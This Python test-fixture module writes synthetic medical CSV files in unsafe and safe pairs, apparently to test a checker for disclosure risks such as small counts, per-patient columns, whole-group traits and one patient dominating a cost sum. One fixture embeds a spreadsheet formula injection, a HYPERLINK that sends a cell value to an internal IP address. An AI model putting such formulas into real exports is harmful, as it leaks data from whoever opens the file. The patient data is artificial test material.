"""CSV: running totals, rates, results in columns, groups that share a trait, formulas, dominance."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs25.kit import rows, write_csv


def write(shelf: Shelf) -> None:
    """Writes the cases."""
    _running(shelf)
    _rates(shelf)
    _samples(shelf)
    _traits(shelf)
    _formulas(shelf)
    _sums(shelf)


def _running(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "snakebite/antivenom_cumulative.csv",
        "a running count steps by less than ten",
        "hour 5 to hour 6: 164 to 167",
        "Cumulative number of patients who had received antivenom by hours since arrival.",
        "231 patients with viper envenomation treated in 14 emergency departments",
    )
    steps = [23, 58, 91, 127, 164, 167, 180, 193, 206]
    write_csv(
        path,
        [["hours_since_arrival", "patients_treated_so_far"], *([str(i + 1), str(n)] for i, n in enumerate(steps))],
    )
    path = shelf.safe(
        "avc/thrombolyse_cumul_par_delai.csv",
        "un cumul dont chaque marche compte au moins dix patients",
        "Nombre cumulé de patients thrombolysés selon le délai porte-aiguille (minutes).",
        "642 patients thrombolysés pour un infarctus cérébral, 2020-2024",
    )
    steps = [34, 97, 188, 291, 377, 446, 502, 547, 583, 611, 631]
    lines = [[str(20 + 5 * i), str(n), f"{100 * n / 642:.1f}".replace(".", ",")] for i, n in enumerate(steps)]
    write_csv(path, [["delai_minutes_au_plus", "patients_cumul", "part_pct"], *lines], ";")


def _rates(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "finland/incidence_by_wellbeing_county.csv",
        "a rate and its population give a small count",
        "Kainuu, women: 19.1 per 100,000 of 36,600 = 7 cases",
        "Incidence of acute pancreatitis in a national register, by county and sex, per 100,000 person-years in one year.",
        "Residents of nine Finnish counties, hospital discharge register, one calendar year",
    )
    table = [["county", "men_population", "men_rate", "women_population", "women_rate"]]
    for county, men, a, women, b in [
        ("Pirkanmaa", 262400, 178, 270100, 97),
        ("Varsinais-Suomi", 237900, 149, 247200, 88),
        ("Pohjois-Savo", 123100, 101, 125300, 52),
        ("Satakunta", 105800, 84, 108100, 41),
        ("Kainuu", 36100, 29, 36600, 7),
        ("Etelä-Karjala", 62900, 47, 63700, 22),
        ("Lappi", 88200, 73, 87700, 31),
    ]:
        table.append([county, str(men), f"{1e5 * a / men:.1f}", str(women), f"{1e5 * b / women:.1f}"])
    write_csv(path, table)
    path = shelf.safe(
        "norway/hip_fracture_rates.csv",
        "rates of large populations",
        "Hip fracture incidence per 10,000 person-years by region and age band, Norwegian register, with 95% confidence limits.",
        "Residents of Norway aged 50 to 89 years, 2016 to 2022",
    )
    table = [["region", "age_band", "person_years", "rate_per_10000", "lower", "upper"]]
    for region, scale in [("North", 0.31), ("Central", 0.46), ("West", 0.72), ("South-East", 1.9)]:
        for band, base, per in [
            ("50-59", 4.1, 640000),
            ("60-69", 12.8, 560000),
            ("70-79", 41.6, 402000),
            ("80-89", 148.0, 171000),
        ]:
            years = int(per * scale)
            count = base * years / 1e4
            rate = base * (1.06 - scale / 20)
            wide = 1.96 * rate / count**0.5
            table.append([region, band, str(years), f"{rate:.1f}", f"{rate - wide:.1f}", f"{rate + wide:.1f}"])
    write_csv(path, table)


def _samples(shelf: Shelf) -> None:
    source = shelf.random("cytokines")
    path = shelf.unsafe(
        "sepsis/cytokine_profile_wide.csv",
        "rows of persons, turned: a column for each patient",
        "columns S01 to S24 hold one patient each",
        "Cytokine profile at inclusion (pg/mL), one line per cytokine.",
        "24 adults with septic shock included in a biology sub-study",
    )
    names = ["IL-6", "IL-8", "IL-10", "TNF-alpha", "IFN-gamma", "MCP-1", "G-CSF", "sTREM-1", "PCT (ng/mL)"]
    table = [["cytokine", *(f"S{i:02d}" for i in range(1, 25))]]
    table += [[name, *(f"{source.lognormvariate(4.2, 1.1):.1f}" for _ in range(24))] for name in names]
    write_csv(path, table)
    path = shelf.safe(
        "lupus/correlations_biomarqueurs.csv",
        "une matrice large de nombres à deux décimales",
        "Corrélations de Spearman entre dix biomarqueurs sériques, en lignes et en colonnes.",
        "312 patients suivis pour un lupus systémique, prélevés à l'inclusion",
    )
    names = ["C3", "C4", "CH50", "anti-ADN", "ferritine", "CRP", "VS", "IL-6", "BAFF", "IFN-alpha"]
    matrix = [[1.0 if i == j else 0.0 for j in range(10)] for i in range(10)]
    for i in range(10):
        for j in range(i):
            matrix[i][j] = matrix[j][i] = round(source.uniform(-0.55, 0.75), 2)
    lines = [[name, *(f"{x:.2f}".replace(".", ",") for x in line)] for name, line in zip(names, matrix, strict=True)]
    write_csv(path, [["biomarqueur", *names], *lines], ";")


def _traits(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "isolement/mesures_par_diagnostic.csv",
        "100 % : tout le groupe porte le trait",
        "troubles liés à l'usage de substances : 100,0 % de 36 patients avec antécédent de violence",
        "Patients isolés selon le diagnostic principal : antécédent de violence, soins sans consentement, isolement de plus de 48 heures.",
        "412 patients placés au moins une fois en isolement en psychiatrie",
    )
    table = rows(
        """
diagnostic_principal | patients | antecedent_violence | sans_consentement | plus_de_48_h
Schizophrénie et troubles délirants | 201 | [[%118/201]] | [[%164/201]] | [[%92/201]]
Trouble bipolaire, épisode maniaque | 97 | [[%41/97]] | [[%71/97]] | [[%38/97]]
Trouble de la personnalité | 78 | [[%52/78]] | [[%43/78]] | [[%21/78]]
Troubles liés à l'usage de substances | 36 | [[!%36/36]] | [[%19/36]] | [[%11/36]]
""",
        "fr",
    )
    write_csv(path, table, ";")
    path = shelf.safe(
        "ect/indications_by_sex.csv",
        "zeros and a dash that cannot be otherwise: no man has a postpartum episode",
        "Indications of electroconvulsive therapy by sex; postpartum depression concerns women only.",
        "746 adults treated by electroconvulsive therapy in 11 psychiatric hospitals",
    )
    table = rows("""
indication | women_n | women_pct | men_n | men_pct
Unipolar depression with psychotic features | [[,148/441]] | [[,96/305]]
Unipolar depression, resistant | [[,131/441]] | [[,79/305]]
Bipolar depression | [[,84/441]] | [[,62/305]]
Postpartum depression | [[,22/441]] | 0 | 0.0
Mania | [[,17/441]] | [[,21/305]]
Catatonia | [[,39/441]] | [[,47/305]]
Total | 441 | 100.0 | 305 | 100.0
""")
    write_csv(path, table)


def _formulas(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "retrocession/couts_par_classe.csv",
        "une formule s'exécute à l'ouverture",
        "libellé de la classe L04A : =HYPERLINK(...)",
        "Patients et coût moyen de la rétrocession hospitalière par classe ATC.",
        "5 914 patients servis par la pharmacie à usage intérieur en 2023",
    )
    table = rows("""
classe_atc | libelle | patients | cout_moyen_eur
L01E | Inhibiteurs de protéine kinase | 1204 | 2871
L04A | =HYPERLINK("http://10.2.0.9/x?v="&B2;"Immunosuppresseurs") | 988 | 1340
J05A | Antiviraux à action directe | 1677 | 611
B02B | Facteurs de coagulation | 143 | 9204
A16A | Maladies métaboliques | 211 | 7018
H01C | Hormones hypothalamiques | 402 | 498
V03A | Chélateurs du fer | 1289 | 377
""")
    write_csv(path, table, ";")
    path = shelf.safe(
        "pharmacy/interventions_change_from_2022.csv",
        "signs before numbers and a word after an equals sign, no formula",
        "Pharmacists' interventions accepted in 2023 and change from 2022, by problem type.",
        "4,377 inpatients with at least one pharmacist's intervention",
    )
    table = rows("""
problem | interventions | accepted_pct | change_points | note
Dose too high | 1322 | 81.4 | +3.1 | renal function in most
Untreated indication | 874 | 69.0 | -1.2 | n = number of interventions
Interaction | 690 | 74.6 | +0.4 | grade 3 or 4
Route or form | 1015 | 88.9 | +5.7 | -
Duplicate therapy | 431 | 90.3 | -0.8 | -
Monitoring | 802 | 77.2 | +2.0 | level = drug concentration
""")
    write_csv(path, table)


def _sums(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "cart/recettes_par_sejour_type.csv",
        "un seul séjour fait presque toute la somme",
        "hémophilie avec inhibiteur : premier contributeur 91,4 % du coût",
        "Coût total des médicaments de la liste en sus par groupe de séjours et concentration.",
        "2 208 patients avec au moins un médicament de la liste en sus",
    )
    table = rows("""
groupe | patients | cout_total_eur | cout_median_eur | part_du_premier_patient_pct | part_des_dix_premiers_pct
Myélome | 388 | 9140200 | 21870 | 0,9 | 7,1
Lymphome B | 412 | 7388100 | 15210 | 4,2 | 31,0
Hémophilie avec inhibiteur | 23 | 6120400 | 18400 | 91,4 | 97,8
Poumon, immunothérapie | 871 | 14927700 | 15930 | 0,4 | 3,2
Polyarthrite | 514 | 2290800 | 4105 | 0,8 | 6,5
""")
    write_csv(path, table, ";")
    path = shelf.safe(
        "icu/cost_centres_share.csv",
        "shares of a sum, none high",
        "Cost of intensive care by cost centre, with the share of the costliest patient and of the ten costliest.",
        "1,931 patients discharged from three intensive care units",
    )
    table = rows("""
cost_centre | patients | total_keur | median_eur | share_first_patient_pct | share_first_ten_pct
Nursing | 1931 | 28744 | 9120 | 0.6 | 4.4
Drugs | 1931 | 6081 | 1204 | 2.7 | 11.9
Blood products | 604 | 1498 | 1011 | 5.8 | 22.4
Renal replacement | 287 | 2207 | 4390 | 3.9 | 19.6
ECMO | 64 | 3115 | 38800 | 6.3 | 34.7
Imaging | 1502 | 911 | 388 | 0.7 | 4.8
""")
    write_csv(path, table)
